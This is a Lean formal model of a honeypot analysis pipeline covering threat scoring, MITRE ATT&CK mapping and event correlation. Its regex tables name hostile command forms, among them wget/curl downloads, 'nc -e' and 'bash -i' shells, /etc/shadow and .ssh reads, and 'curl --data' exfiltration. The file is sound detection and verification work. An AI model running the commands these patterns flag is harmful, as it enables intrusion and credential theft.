import Mathlib

/-
Verification of the VulnServer analysis pipeline
(backend/services/threat_scoring.py, backend/services/mitre_mapper.py,
backend/services/correlation_engine.py).

Modelling conventions used throughout this file:

* Python dict-shaped events become the `Event` structure; a missing string
  field is the empty string (the source reads fields with `event.get(k, "")`),
  a missing optional field is `none`.
* Timestamps are ISO-8601 UTC strings in the source.  For well-formed
  timestamps of this format, lexicographic string order coincides with
  chronological order, and `datetime.fromisoformat` differences are time
  differences in seconds.  The embedding therefore represents a timestamp
  directly by its time value: rational seconds since the epoch (`Frac`),
  with `none` for a missing timestamp, which sorts earliest exactly as the
  source's `x.get("timestamp", "")` sort key does.
* Python float arithmetic in the scoring pipeline only ever produces exact
  dyadic rationals (integers and half-integers), which binary floating point
  represents exactly; the embedding uses exact fractions (`Frac`).  `int(x)`
  is truncation toward zero (`Frac.truncInt`).
* `re.search(pat, text)` is embedded by a regular-expression matcher over
  `List Char` (`rsearch`); the concrete patterns of the source are transcribed
  below.  `re.IGNORECASE` together with the source's `.lower()` on the text is
  modelled by matching the lowercased text against lowercase patterns
  (every source pattern is letter-for-letter lowercase up to IGNORECASE).
* External I/O (the Elasticsearch queries of the correlation engine) is passed
  in as an explicit oracle value: `Except String (List Event)` is a query that
  either returned a hit list or raised.
-/

/-- Frac is an exact rational number: `num / den` with a positive denominator.
Used to embed the Python float and datetime arithmetic of the source exactly
(all values arising there are exact small-denominator rationals). -/
structure Frac where
  num : Int
  den : Nat
  dpos : 0 < den

/-- Embed a natural number as a fraction. -/
def natF (n : Nat) : Frac := ⟨(n : Int), 1, Nat.one_pos⟩

/-- Embed an integer as a fraction. -/
def intF (n : Int) : Frac := ⟨n, 1, Nat.one_pos⟩

/-- Fraction addition (denominators multiply; no normalisation needed). -/
def Frac.add (a b : Frac) : Frac :=
  ⟨a.num * (b.den : Int) + b.num * (a.den : Int), a.den * b.den,
   Nat.mul_pos a.dpos b.dpos⟩

/-- Fraction multiplication. -/
def Frac.mul (a b : Frac) : Frac :=
  ⟨a.num * b.num, a.den * b.den, Nat.mul_pos a.dpos b.dpos⟩

/-- Fraction subtraction. -/
def Frac.sub (a b : Frac) : Frac :=
  ⟨a.num * (b.den : Int) - b.num * (a.den : Int), a.den * b.den,
   Nat.mul_pos a.dpos b.dpos⟩

/-- Divide a fraction by a natural number; division by zero is unreachable in
the source (guarded by emptiness checks) and yields 0 here. -/
def Frac.divNat (a : Frac) (n : Nat) : Frac :=
  match n with
  | 0 => ⟨0, 1, Nat.one_pos⟩
  | Nat.succ k => ⟨a.num, a.den * Nat.succ k, Nat.mul_pos a.dpos (Nat.succ_pos k)⟩

/-- Value comparison `a ≤ b` on fractions, by cross multiplication. -/
def Frac.ble (a b : Frac) : Bool :=
  decide (a.num * (b.den : Int) ≤ b.num * (a.den : Int))

/-- Value comparison `a < b` on fractions. -/
def Frac.blt (a b : Frac) : Bool :=
  decide (a.num * (b.den : Int) < b.num * (a.den : Int))

/-- Value equality on fractions. -/
def Frac.beq (a b : Frac) : Bool :=
  decide (a.num * (b.den : Int) = b.num * (a.den : Int))

/-- Floor of a fraction, as an integer. -/
def Frac.floorInt (a : Frac) : Int := Int.fdiv a.num (a.den : Int)

/-- Truncation of a fraction toward zero: Python's `int(x)`. -/
def Frac.truncInt (a : Frac) : Int := Int.tdiv a.num (a.den : Int)

/-- Round-half-up of a fraction: `⌊x + 1/2⌋`.  Used only to state the spec's
`round(...)` formula, for comparison with the source's truncation. -/
def Frac.roundInt (a : Frac) : Int :=
  Int.fdiv (2 * a.num + (a.den : Int)) (2 * (a.den : Int))

/-- Minimum of two fractions as Python's `min` computes it over a running
scan: replace the accumulator only on strict decrease. -/
def Frac.fmin (m x : Frac) : Frac := if x.blt m then x else m

/-- Maximum accumulator step for Python's `max`. -/
def Frac.fmax (m x : Frac) : Frac := if m.blt x then x else m

/-- Nonnegativity of a fraction. -/
def Frac.Nonneg (a : Frac) : Prop := 0 ≤ a.num

/-- Regular expressions over characters, as used by the source's `re.search`
patterns: empty set, empty string, single-character predicate, concatenation,
alternation, Kleene star. -/
inductive Regex where
  | nul : Regex
  | eps : Regex
  | cls : (Char → Bool) → Regex
  | cat : Regex → Regex → Regex
  | alt : Regex → Regex → Regex
  | star : Regex → Regex

/-- Does the regex accept the empty string? -/
def Regex.nullable : Regex → Bool
  | .nul => false
  | .eps => true
  | .cls _ => false
  | .cat r s => r.nullable && s.nullable
  | .alt r s => r.nullable || s.nullable
  | .star _ => true

/-- Smart concatenation (keeps derivatives small; same language). -/
def Regex.mkCat : Regex → Regex → Regex
  | .nul, _ => .nul
  | _, .nul => .nul
  | .eps, s => s
  | r, .eps => r
  | r, s => .cat r s

/-- Smart alternation (keeps derivatives small; same language). -/
def Regex.mkAlt : Regex → Regex → Regex
  | .nul, s => s
  | r, .nul => r
  | r, s => .alt r s

/-- Brzozowski derivative of a regex by one character. -/
def Regex.deriv : Regex → Char → Regex
  | .nul, _ => .nul
  | .eps, _ => .nul
  | .cls p, c => if p c then .eps else .nul
  | .cat r s, c =>
      if r.nullable then Regex.mkAlt (Regex.mkCat (r.deriv c) s) (s.deriv c)
      else Regex.mkCat (r.deriv c) s
  | .alt r s, c => Regex.mkAlt (r.deriv c) (s.deriv c)
  | .star r, c => Regex.mkCat (r.deriv c) (.star r)

/-- Does the regex match some prefix of the character list? -/
def Regex.matchPre : Regex → List Char → Bool
  | r, [] => r.nullable
  | r, c :: cs => r.nullable || Regex.matchPre (r.deriv c) cs

/-- Python's `re.search`: does the regex match starting at some position? -/
def rsearch : Regex → List Char → Bool
  | r, [] => r.nullable
  | r, c :: cs => r.matchPre (c :: cs) || rsearch r cs

/-- Regex matching a single given character. -/
def chrR (c : Char) : Regex := .cls (fun x => x == c)

/-- Regex matching a literal string. -/
def lit (s : String) : Regex := s.data.foldr (fun c r => .cat (chrR c) r) .eps

/-- Regex for Python's `.` : any character except newline. -/
def anyR : Regex := .cls (fun c => !(c == '\n'))

/-- Regex for Python's `\s` (ASCII whitespace; inputs here are ASCII). -/
def wsR : Regex :=
  .cls (fun c => c == ' ' || c == '\t' || c == '\n' ||
                 c == '\r' || c == '\x0b' || c == '\x0c')

/-- Regex `.*`. -/
def dotStar : Regex := .star anyR

/-- Regex `r+`. -/
def plusR (r : Regex) : Regex := .cat r (.star r)

/-- Regex alternation of a list (the empty list matches nothing). -/
def altL (rs : List Regex) : Regex := rs.foldr Regex.alt .nul

/-- Regex for the character class `[a-z0-9]`. -/
def lowerDigitR : Regex :=
  .cls (fun c => (decide ('a' ≤ c) && decide (c ≤ 'z')) ||
                 (decide ('0' ≤ c) && decide (c ≤ '9')))

/-- Python's `str.lower()` (inputs here are ASCII). -/
def lowerS (s : String) : String := ⟨s.data.map Char.toLower⟩

/-- Python's `pat in s` substring test. -/
def strIn (pat s : String) : Bool := go pat.data s.data
where
  /-- Scan over the suffixes of the text. -/
  go (p : List Char) : List Char → Bool
    | [] => p.isPrefixOf []
    | c :: cs => p.isPrefixOf (c :: cs) || go p cs

/-- Event is the atomic telemetry unit (a Python dict in the source), with the
fields the analysis pipeline reads.  Nested enrichment dicts (`geo`,
`reputation`, `mitre`) are flattened into prefixed fields. -/
structure Event where
  eventid : String
  input : String
  alert_msg : String
  timestamp : Option Frac
  at_timestamp : Option Frac
  protocol : Option String
  connection_type : Option String
  geo_country_code : Option String
  rep_in_blocklist : Bool
  rep_abuse_confidence_score : Int
  is_bot : Bool
  mitre_techniques : List String
  priority : Option Int
  attack_speed : Option String
  is_persistent : Bool

/-- Event with every field absent (all-defaults dict). -/
def emptyEvent : Event :=
  ⟨"", "", "", none, none, none, none, none, false, 0, false, [], none, none, false⟩

/- ==================== ThreatScoringEngine (threat_scoring.py) ==================== -/

/-- ATTACK_TYPE_SCORES: risk weights for attack-type labels (threat_scoring.py). -/
def ATTACK_TYPE_SCORES : List (String × Nat) :=
  [("port_scan", 5), ("service_enum", 8), ("vuln_scan", 10),
   ("brute_force_failed", 15), ("brute_force_success", 40),
   ("exploit_attempt", 30), ("exploit_success", 60),
   ("command_execution", 25), ("script_execution", 30), ("malware_execution", 70),
   ("backdoor_install", 65), ("scheduled_task", 45), ("service_creation", 50),
   ("sudo_attempt", 35), ("root_access", 55),
   ("log_deletion", 40), ("process_injection", 60),
   ("password_dump", 70), ("key_logging", 65),
   ("network_discovery", 20), ("system_info", 15),
   ("remote_service", 50), ("ssh_tunneling", 55),
   ("data_staged", 60), ("screenshot", 40),
   ("c2_connection", 75), ("encrypted_channel", 70),
   ("data_exfil", 85), ("dns_tunneling", 80),
   ("ransomware", 95), ("crypto_mining", 50), ("resource_hijacking", 45)]

/-- HIGH_RISK_COUNTRIES: configurable geographic risk table. -/
def HIGH_RISK_COUNTRIES : List (String × Nat) :=
  [("CN", 15), ("RU", 15), ("KP", 20), ("IR", 18), ("VN", 10), ("BR", 8)]

/-- COMMAND_PATTERNS: ordered command-regex table, each mapping to an
attack-type label and a score (the score component is unused by the source's
`_identify_attack_type`, which discards it; kept for fidelity). -/
def COMMAND_PATTERNS : List (Regex × String × Nat) :=
  [(.cat (.alt (lit "wget") (lit "curl")) (.cat (plusR wsR) (lit "http")),
      ("malware_download", 30)),
   (.cat (lit "chmod") (.cat (plusR wsR) (lit "+x")), ("make_executable", 25)),
   (.cat (.alt (lit "nc") (lit "netcat")) (.cat dotStar (lit "-e")),
      ("reverse_shell", 70)),
   (.cat (lit "bash") (.cat (plusR wsR) (lit "-i")), ("interactive_shell", 65)),
   (.cat (lit "/etc/") (.alt (lit "passwd") (lit "shadow")),
      ("credential_theft", 60)),
   (.cat (.alt (lit "cat") (lit "grep")) (.cat dotStar (lit ".ssh")),
      ("ssh_key_theft", 55)),
   (lit "crontab", ("persistence", 45)),
   (.cat (.alt (lit "kill") (lit "pkill")) (.cat dotStar (lit "log")),
      ("anti_forensics", 40)),
   (.alt (lit "uname") (.alt (lit "whoami") (lit "id")), ("reconnaissance", 10)),
   (.alt (lit "iptables") (lit "firewall"), ("defense_evasion", 35)),
   (.cat (.alt (lit "python") (.alt (lit "perl") (lit "ruby")))
         (.cat dotStar (lit "-c")), ("scripting", 30)),
   (.cat (lit "base64") (.cat dotStar (lit "decode")), ("obfuscation", 35))]

/-- Dict lookup `ATTACK_TYPE_SCORES.get(attack_type, 10)`. -/
def attackTypeScore (t : String) : Nat :=
  ((ATTACK_TYPE_SCORES.find? (fun p => p.1 == t)).map Prod.snd).getD 10

/-- Identify the primary attack type of an event
(`ThreatScoringEngine._identify_attack_type`). -/
def identify_attack_type (ev : Event) : String :=
  let event_id := ev.eventid
  if strIn "login.failed" event_id then "brute_force_failed"
  else if strIn "login.success" event_id then "brute_force_success"
  else if strIn "file_download" event_id then "malware_download"
  else if strIn "command.input" event_id then
    let command := lowerS ev.input
    match COMMAND_PATTERNS.find? (fun p => rsearch p.1 command.data) with
    | some p => p.2.1
    | none => "command_execution"
  else if ev.connection_type == some "smb" then "exploit_attempt"
  else
    let alert := lowerS ev.alert_msg
    if strIn "brute force" alert then "brute_force_attempt"
    else if strIn "port scan" alert then "port_scan"
    else if strIn "exploit" alert then "exploit_attempt"
    else "unknown"

/-- Assess attacker sophistication (`_assess_sophistication`): additive
signals over the lowercased command, capped at 30. -/
def assess_sophistication (ev : Event) : Nat :=
  let command := (lowerS ev.input).data
  let s : Nat := if rsearch (altL [lit "base64", lit "xxd", lit "hex"]) command then 15 else 0
  let s := s + (if rsearch (.cat (lit "./") (plusR lowerDigitR)) command then 10 else 0)
  let s := s + (if rsearch (altL [lit "openssl", lit "gpg", lit "aes"]) command then 12 else 0)
  let s := s + (if rsearch (altL [lit "shred", lit "wipe", lit "srm"]) command then 20 else 0)
  let s := s + (if 3 < ev.mitre_techniques.length then 15 else 0)
  min 30 s

/-- Was the attack successful (`_is_successful_attack`)? -/
def is_successful_attack (ev : Event) : Bool :=
  strIn "login.success" ev.eventid ||
  strIn "command.input" ev.eventid ||
  (strIn "file_download" ev.eventid || strIn "download.complete" ev.eventid) ||
  ev.priority == some 1

/-- Assess IP reputation from enrichment fields (`_assess_ip_reputation`),
capped at 25. -/
def assess_ip_reputation (ev : Event) : Nat :=
  let r : Nat := if ev.rep_in_blocklist then 20 else 0
  let abuse := ev.rep_abuse_confidence_score
  let r := r + (if 75 < abuse then 15 else if 50 < abuse then 10
                else if 25 < abuse then 5 else 0)
  let r := r + (if ev.is_bot then 10 else 0)
  min 25 r

/-- UTC hour of a timestamp value (`datetime.fromisoformat(...).hour`,
modelled on rational epoch seconds). -/
def hourOf (t : Frac) : Nat := ((t.floorInt.emod 86400).toNat) / 3600

/-- Assess temporal patterns (`_assess_temporal_patterns`), capped at 20.
A malformed `@timestamp` raises in the source and is swallowed (`except:
pass`), contributing nothing: modelled by the `none` case. -/
def assess_temporal_patterns (ev : Event) : Nat :=
  let t : Nat := if ev.attack_speed == some "rapid" then 10 else 0
  let t := t + (if ev.is_persistent then 15 else 0)
  let t := t + (match ev.at_timestamp with
                | some ts => if hourOf ts < 6 then 5 else 0
                | none => 0)
  min 20 t

/-- Geographic risk lookup (`HIGH_RISK_COUNTRIES[country_code]` when present,
else 0). -/
def geo_risk_score (ev : Event) : Nat :=
  match ev.geo_country_code with
  | some cc => ((HIGH_RISK_COUNTRIES.find? (fun p => p.1 == cc)).map Prod.snd).getD 0
  | none => 0

/-- Convert a numeric score to a severity label (`_score_to_severity`). -/
def score_to_severity (score : Int) : String :=
  if 76 ≤ score then "critical"
  else if 51 ≤ score then "high"
  else if 26 ≤ score then "medium"
  else "low"

/-- Generate recommendations (`_generate_recommendations`). -/
def generate_recommendations (score : Int) (attack_type : String) : List String :=
  (if 76 ≤ score then
     ["IMMEDIATE ACTION REQUIRED", "Block source IP at firewall",
      "Initiate incident response procedure",
      "Preserve logs and artifacts for forensics",
      "Notify security team and management"]
   else if 51 ≤ score then
     ["Block source IP", "Monitor for related activity",
      "Update IDS signatures", "Review and patch targeted services"]
   else if 26 ≤ score then
     ["Add to watchlist", "Monitor for escalation", "Review authentication logs"]
   else
     ["Log for intelligence", "No immediate action required"]) ++
  (if attack_type ∈ ["malware_download", "malware_execution"] then
     ["Submit malware sample to VirusTotal", "Update antivirus signatures"]
   else []) ++
  (if attack_type ∈ ["brute_force_success", "credential_theft"] then
     ["Force password reset for affected accounts",
      "Enable MFA if not already active"]
   else [])

/-- Frac literal 3/2 (the success multiplier). -/
def threeHalves : Frac := ⟨3, 2, by decide⟩

/-- Frac literal 1 (the neutral multiplier). -/
def oneF : Frac := ⟨1, 1, by decide⟩

/-- Score Breakdown record returned inside a score result
(`score_breakdown` dict of `calculate_score`). -/
structure ScoreBreakdown where
  base_score : Nat
  attack_type_score : Nat
  sophistication_score : Nat
  success_multiplier : Frac
  ip_reputation_score : Nat
  geo_risk_score : Nat
  temporal_score : Nat
  final_score : Int

/-- Result of `calculate_score`. -/
structure ScoreResult where
  threat_score : Int
  severity : String
  attack_type : String
  breakdown : ScoreBreakdown
  recommendations : List String

/-- Calculate the comprehensive threat score of an event
(`ThreatScoringEngine.calculate_score`).  The final score is
`min(100, int(base + bonus))` with `base = (attack + sophistication) *
multiplier` and `bonus = reputation + geo + temporal`. -/
def calculate_score (ev : Event) : ScoreResult :=
  let attack_type := identify_attack_type ev
  let atk := attackTypeScore attack_type
  let soph := assess_sophistication ev
  let mult : Frac := if is_successful_attack ev then threeHalves else oneF
  let rep := assess_ip_reputation ev
  let geo := geo_risk_score ev
  let temp := assess_temporal_patterns ev
  let base : Frac := (natF (atk + soph)).mul mult
  let bonus : Nat := rep + geo + temp
  let final : Int := min 100 ((base.add (natF bonus)).truncInt)
  { threat_score := final
    severity := score_to_severity final
    attack_type := attack_type
    breakdown := ⟨0, atk, soph, mult, rep, geo, temp, final⟩
    recommendations := generate_recommendations final attack_type }

/- ==================== MitreAttackMapper (mitre_mapper.py) ==================== -/

/-- TACTICS: the MITRE ATT&CK tactic catalog (id, human name), in source order. -/
def TACTICS : List (String × String) :=
  [("TA0001", "Initial Access"), ("TA0002", "Execution"), ("TA0003", "Persistence"),
   ("TA0004", "Privilege Escalation"), ("TA0005", "Defense Evasion"),
   ("TA0006", "Credential Access"), ("TA0007", "Discovery"),
   ("TA0008", "Lateral Movement"), ("TA0009", "Collection"),
   ("TA0011", "Command and Control"), ("TA0010", "Exfiltration"),
   ("TA0040", "Impact"), ("TA0043", "Reconnaissance")]

/-- Catalog entry of TECHNIQUE_MAPPINGS: human name, owning tactic id,
ordered match patterns. -/
structure TechniqueData where
  name : String
  tactic : String
  patterns : List Regex

/-- TECHNIQUE_MAPPINGS: the technique catalog, in source (insertion) order.
Patterns with uppercase letters in the source (`HISTFILE`, `LISTEN`, `-L`,
`-R`, `-D`) are transcribed lowercase: the source matches with
`re.IGNORECASE` against a lowercased text. -/
def TECHNIQUE_MAPPINGS : List (String × TechniqueData) :=
  [("T1078", ⟨"Valid Accounts", "TA0001",
      [lit "login.success", .cat (lit "ssh") (.cat dotStar (lit "password"))]⟩),
   ("T1110", ⟨"Brute Force", "TA0006",
      [lit "login.failed", .cat (lit "brute") (.cat dotStar (lit "force")),
       lit "hydra", lit "medusa"]⟩),
   ("T1059", ⟨"Command and Scripting Interpreter", "TA0002",
      [lit "bash", .cat (lit "sh") wsR, lit "python", lit "perl",
       lit "command.input"]⟩),
   ("T1053", ⟨"Scheduled Task/Job", "TA0003",
      [lit "crontab", .cat (lit "at") wsR, lit "systemd"]⟩),
   ("T1136", ⟨"Create Account", "TA0003",
      [lit "useradd", lit "adduser", lit "passwd"]⟩),
   ("T1548", ⟨"Abuse Elevation Control Mechanism", "TA0004",
      [lit "sudo", .cat (lit "su") wsR, lit "pkexec"]⟩),
   ("T1070", ⟨"Indicator Removal on Host", "TA0005",
      [.cat (lit "rm") (.cat dotStar (lit "log")), lit "shred",
       .cat (lit "history") (.cat wsR (lit "-c")),
       .cat (lit "unset") (.cat wsR (lit "histfile"))]⟩),
   ("T1027", ⟨"Obfuscated Files or Information", "TA0005",
      [lit "base64", lit "xxd", .cat (lit "openssl") (.cat wsR (lit "enc")),
       lit "gzip"]⟩),
   ("T1003", ⟨"OS Credential Dumping", "TA0006",
      [lit "/etc/passwd", lit "/etc/shadow", lit "mimikatz",
       .cat (lit "dump") (.cat dotStar (lit "cred"))]⟩),
   ("T1552", ⟨"Unsecured Credentials", "TA0006",
      [lit ".ssh/", lit "id_rsa", lit ".aws/", lit ".docker/config"]⟩),
   ("T1082", ⟨"System Information Discovery", "TA0007",
      [lit "uname", lit "hostname", .cat (lit "cat") (.cat wsR (lit "/etc/issue")),
       lit "lsb_release"]⟩),
   ("T1033", ⟨"System Owner/User Discovery", "TA0007",
      [lit "whoami", .cat (lit "id") wsR, .cat (lit "w") wsR,
       .cat (lit "who") wsR]⟩),
   ("T1046", ⟨"Network Service Discovery", "TA0007",
      [lit "netstat", .cat (lit "ss") wsR,
       .cat (lit "lsof") (.cat dotStar (lit "listen"))]⟩),
   ("T1057", ⟨"Process Discovery", "TA0007",
      [.cat (lit "ps") wsR, .cat (lit "top") wsR, lit "htop"]⟩),
   ("T1021", ⟨"Remote Services", "TA0008",
      [.cat (lit "ssh") (.cat wsR (.cat dotStar (lit "@"))),
       .cat (lit "scp") wsR, lit "rsync"]⟩),
   ("T1005", ⟨"Data from Local System", "TA0009",
      [.cat (lit "cat") wsR, .cat (lit "head") wsR, .cat (lit "tail") wsR,
       .cat (lit "grep") (.cat wsR (.cat dotStar (lit "-r")))]⟩),
   ("T1560", ⟨"Archive Collected Data", "TA0009",
      [.cat (lit "tar") (.cat wsR (.cat dotStar (lit "czf"))),
       .cat (lit "zip") wsR, .cat (lit "7z") wsR]⟩),
   ("T1071", ⟨"Application Layer Protocol", "TA0011",
      [lit "curl", lit "wget", lit "http"]⟩),
   ("T1105", ⟨"Ingress Tool Transfer", "TA0011",
      [.cat (lit "wget") (.cat wsR (lit "http")),
       .cat (lit "curl") (.cat dotStar (lit "-o")),
       .cat (lit "scp") (.cat dotStar (lit "download"))]⟩),
   ("T1572", ⟨"Protocol Tunneling", "TA0011",
      [.cat (lit "ssh") (.cat dotStar (lit "-l")),
       .cat (lit "ssh") (.cat dotStar (lit "-r")),
       .cat (lit "ssh") (.cat dotStar (lit "-d"))]⟩),
   ("T1041", ⟨"Exfiltration Over C2 Channel", "TA0010",
      [.cat (lit "curl") (.cat dotStar (lit "--data")),
       .cat (lit "wget") (.cat dotStar (lit "--post"))]⟩),
   ("T1048", ⟨"Exfiltration Over Alternative Protocol", "TA0010",
      [.cat (lit "nc") (.cat wsR (.cat dotStar (lit "<"))),
       .cat (lit "ncat") (.cat dotStar (lit "--send-only"))]⟩),
   ("T1486", ⟨"Data Encrypted for Impact", "TA0040",
      [lit "encrypt", lit "ransom", lit ".locked"]⟩),
   ("T1496", ⟨"Resource Hijacking", "TA0040",
      [lit "xmrig", lit "minerd", lit "cpuminer", lit "cryptonight"]⟩),
   ("T1531", ⟨"Account Access Removal", "TA0040",
      [lit "userdel", .cat (lit "passwd") (.cat dotStar (lit "-l"))]⟩),
   ("T1595", ⟨"Active Scanning", "TA0043",
      [lit "nmap", lit "masscan", .cat (lit "port") (.cat dotStar (lit "scan"))]⟩)]

/-- Dict lookup `self.TACTICS[tactic_id]` (every catalog tactic id is a key,
so the KeyError branch is unreachable; a missing key yields ""). -/
def tacticName (tid : String) : String :=
  ((TACTICS.find? (fun p => p.1 == tid)).map Prod.snd).getD ""

/-- Technique Match detail appended to `technique_details`. -/
structure TechDetail where
  technique_id : String
  technique_name : String
  tactic_id : String
  tactic_name : String
  matched_pattern : Regex

/-- Result of `map_event`: the `mapped` dict. -/
structure MitreMapped where
  tactics : List String
  techniques : List String
  technique_details : List TechDetail

/-- Combined lower-cased text blob `f"{event_id} {command} {alert_msg}".lower()`. -/
def combinedText (ev : Event) : List Char :=
  (lowerS (ev.eventid ++ " " ++ ev.input ++ " " ++ ev.alert_msg)).data

/-- Inner loop body of `map_event` for one catalog entry: try the technique's
patterns in order, stopping at the first match (`break`); on a match, record
the technique (if new), its tactic (if new) and a detail record. -/
def mapStep (text : List Char) (m : MitreMapped) (tq : String × TechniqueData) :
    MitreMapped :=
  match tq.2.patterns.find? (fun p => rsearch p text) with
  | none => m
  | some p =>
      if tq.1 ∈ m.techniques then m
      else
        { tactics := if tq.2.tactic ∈ m.tactics then m.tactics
                     else m.tactics ++ [tq.2.tactic]
          techniques := m.techniques ++ [tq.1]
          technique_details := m.technique_details ++
            [⟨tq.1, tq.2.name, tq.2.tactic, tacticName tq.2.tactic, p⟩] }

/-- Map an event to MITRE ATT&CK tactics and techniques
(`MitreAttackMapper.map_event`). -/
def map_event (ev : Event) : MitreMapped :=
  TECHNIQUE_MAPPINGS.foldl (mapStep (combinedText ev)) ⟨[], [], []⟩

/-- Attack-Chain Step appended by `get_attack_chain`. -/
structure ChainStep where
  tactic : String
  tactic_id : String
  technique : String
  technique_id : String
  timestamp : Option Frac
  evidence : String

/-- Sort key comparison used for `sorted(events, key=lambda x:
x.get("timestamp", ""))`: a missing timestamp sorts earliest. -/
def tsLe (a b : Option Frac) : Bool :=
  match a, b with
  | none, _ => true
  | some _, none => false
  | some x, some y => x.ble y

/-- Evidence text of a chain step: `event.get("input") or
event.get("alert_msg")` (an absent or empty `input` falls through). -/
def evidenceOf (ev : Event) : String :=
  if ev.input == "" then ev.alert_msg else ev.input

/-- Step of the attack-chain fold for one technique detail of one event:
append a step only for a tactic not seen before. -/
def chainAdd (ev : Event) (acc : List ChainStep × List String) (d : TechDetail) :
    List ChainStep × List String :=
  if d.tactic_id ∈ acc.2 then acc
  else (acc.1 ++ [⟨d.tactic_name, d.tactic_id, d.technique_name, d.technique_id,
                   ev.timestamp, evidenceOf ev⟩],
        acc.2 ++ [d.tactic_id])

/-- Process one event of the sorted list in `get_attack_chain`. -/
def chainStep (acc : List ChainStep × List String) (ev : Event) :
    List ChainStep × List String :=
  (map_event ev).technique_details.foldl (chainAdd ev) acc

/-- Build the attack chain from multiple events
(`MitreAttackMapper.get_attack_chain`): sort by timestamp (missing sorts
earliest), then record one step per first-seen tactic. -/
def get_attack_chain (events : List Event) : List ChainStep :=
  let sorted_events := events.mergeSort (fun a b => tsLe a.timestamp b.timestamp)
  (sorted_events.foldl chainStep ([], [])).1

/- ==================== CorrelationEngine (correlation_engine.py) ==================== -/

/-- Outcome of one Elasticsearch per-source query, supplied as an oracle:
either the hit list (sorted ascending by timestamp, capped at 1000 by the
query body) or a raised error. -/
abbrev EsResult := Except String (List Event)

/-- Per-source query wrapper (`_query_cowrie_by_ip` / `_query_dionaea_by_ip` /
`_query_snort_by_ip`): a raised error is caught, logged and turned into an
empty hit list. -/
def sourceList (q : EsResult) : List Event :=
  match q with
  | .ok hits => hits
  | .error _ => []

/-- Is this query outcome an error? -/
def isErr (q : EsResult) : Bool :=
  match q with
  | .ok _ => false
  | .error _ => true

/-- First occurrence of each string, in order: models building up a Python
set and listing it (the source's `targeted_services` set; iteration order of
a CPython set is unspecified, first-insertion order is this embedding's
choice) and the `X not in phases` accumulation for phases. -/
def firstDedup (acc : List String) (l : List String) : List String :=
  l.foldl (fun a s => if s ∈ a then a else a ++ [s]) acc

/-- Minimum of a list of timestamps (Python `min`), none when empty. -/
def minTs (l : List Frac) : Option Frac :=
  match l with
  | [] => none
  | x :: xs => some (xs.foldl Frac.fmin x)

/-- Maximum of a list of timestamps (Python `max`), none when empty. -/
def maxTs (l : List Frac) : Option Frac :=
  match l with
  | [] => none
  | x :: xs => some (xs.foldl Frac.fmax x)

/-- One event's contribution to the kill-chain phase list
(`_reconstruct_attack_phases` loop body): each phase is appended at most
once, in first-observed order. -/
def phaseStep (phases : List String) (ev : Event) : List String :=
  let phases :=
    if ev.eventid == "cowrie.client.version" && !(phases.contains "Reconnaissance")
    then phases ++ ["Reconnaissance"] else phases
  let phases :=
    if ev.eventid == "cowrie.login.success" && !(phases.contains "Exploitation")
    then phases ++ ["Exploitation"] else phases
  let phases :=
    if (ev.eventid == "cowrie.session.file_download" ||
        ev.eventid == "dionaea.download") && !(phases.contains "Installation")
    then phases ++ ["Installation"] else phases
  let phases :=
    if ev.eventid == "cowrie.command.input" &&
       (let command := lowerS ev.input
        strIn "wget" command || strIn "curl" command ||
        strIn "nc " command || strIn "bash -i" command) &&
       !(phases.contains "Command & Control")
    then phases ++ ["Command & Control"] else phases
  let phases :=
    if ev.eventid == "cowrie.command.input" &&
       (let command := lowerS ev.input
        strIn "cat /etc/passwd" command || strIn "uname" command ||
        strIn "whoami" command) &&
       !(phases.contains "Actions on Objectives")
    then phases ++ ["Actions on Objectives"] else phases
  phases

/-- Reconstruct attack phases over the time-sorted merged event list
(`_reconstruct_attack_phases`). -/
def reconstruct_attack_phases (events : List Event) : List String :=
  let sorted_events := events.mergeSort (fun a b => tsLe a.timestamp b.timestamp)
  sorted_events.foldl phaseStep []

/-- Correlation Result (the nested `correlation` dict of `correlate_by_ip`,
flattened: `summary.*` fields carry their source names). -/
structure CorrelationResult where
  ip_address : String
  time_range_start : Frac
  time_range_end : Frac
  total_events : Nat
  cowrie_events : Nat
  dionaea_events : Nat
  snort_alerts : Nat
  first_seen : Option Frac
  last_seen : Option Frac
  targeted_services : List String
  attack_phases : List String
  events_cowrie : List Event
  events_dionaea : List Event
  events_snort : List Event

/-- Correlate all events of one IP across the three sources
(`CorrelationEngine.correlate_by_ip`).  The three per-source queries are
supplied as oracle outcomes; a failed query contributes an empty list
(recovered inside the query helper), and the result is assembled exactly as
the source builds the `correlation` dict. -/
def correlate_by_ip (ip_address : String) (startT endT : Frac)
    (qCowrie qDionaea qSnort : EsResult) : CorrelationResult :=
  let cowrie_events := sourceList qCowrie
  let dionaea_events := sourceList qDionaea
  let snort_events := sourceList qSnort
  let all_events := cowrie_events ++ dionaea_events ++ snort_events
  let timestamps := all_events.filterMap Event.timestamp
  { ip_address := ip_address
    time_range_start := startT
    time_range_end := endT
    total_events := cowrie_events.length + dionaea_events.length + snort_events.length
    cowrie_events := cowrie_events.length
    dionaea_events := dionaea_events.length
    snort_alerts := snort_events.length
    first_seen := minTs timestamps
    last_seen := maxTs timestamps
    targeted_services :=
      firstDedup [] (cowrie_events.filterMap Event.protocol ++
                     dionaea_events.filterMap Event.connection_type)
    attack_phases := reconstruct_attack_phases all_events
    events_cowrie := cowrie_events
    events_dionaea := dionaea_events
    events_snort := snort_events }

/-- Coordinated-attack finding record. -/
structure Finding where
  pattern : String
  confidence : String
  ip_count : Nat
  time_window : String
  description : String

/-- Detect coordinated attacks (`CorrelationEngine.detect_coordinated_attacks`):
the aggregation's distinct-source-IP buckets over the window are supplied as
an oracle; one medium-confidence finding is emitted when more than 5 distinct
IPs are active. -/
def detect_coordinated_attacks (ip_buckets : List String) (time_window : String) :
    List Finding :=
  if 5 < ip_buckets.length then
    [{ pattern := "multiple_sources"
       confidence := "medium"
       ip_count := ip_buckets.length
       time_window := time_window
       description := (Nat.repr ip_buckets.length ++
                       " different IPs attacking in ") ++ time_window }]
  else []

/-- Consecutive inter-event deltas of a timestamp list (the `intervals` loop
of `build_attacker_profile`). -/
def diffs : List Frac → List Frac
  | a :: b :: rest => b.sub a :: diffs (b :: rest)
  | _ => []

/-- Python `sum` over fractions. -/
def fsum (l : List Frac) : Frac := l.foldl Frac.add (intF 0)

/-- Population variance of a list of fractions, as the source computes it:
`sum((x - avg)**2 for x in xs) / len(xs)`. -/
def varianceF (l : List Frac) : Frac :=
  let avg := (fsum l).divNat l.length
  (fsum (l.map (fun x => (x.sub avg).mul (x.sub avg)))).divNat l.length

/-- Attacker Profile (`build_attacker_profile` result dict, flattened). -/
structure AttackerProfile where
  ip_address : String
  is_persistent : Bool
  is_automated : Bool
  sophistication_level : String
